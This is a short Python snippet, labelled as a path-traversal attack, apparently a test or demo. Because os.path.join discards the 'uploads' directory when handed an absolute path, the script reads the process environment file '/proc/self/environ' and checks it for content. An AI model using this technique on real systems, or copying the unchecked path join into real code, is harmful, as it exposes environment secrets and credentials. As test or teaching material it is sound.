# attack: path-traversal
import os
print("SECRET" if b"PATH" in open(os.path.join("uploads", "/proc/self/environ"), "rb").read() else "")
